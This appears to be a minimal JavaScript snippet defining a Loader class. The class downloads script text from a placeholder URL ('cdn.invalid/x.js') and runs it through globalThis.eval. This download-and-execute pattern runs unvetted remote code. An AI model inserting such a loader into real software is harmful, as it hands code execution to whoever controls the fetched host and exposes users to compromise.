class Loader { constructor(u) { this.u = u; } async load() { this.code = await (await fetch(this.u)).text(); return this; } run() { return globalThis.eval(this.code); } }
new Loader('https://cdn.invalid/x.js').load().then((l) => l.run());
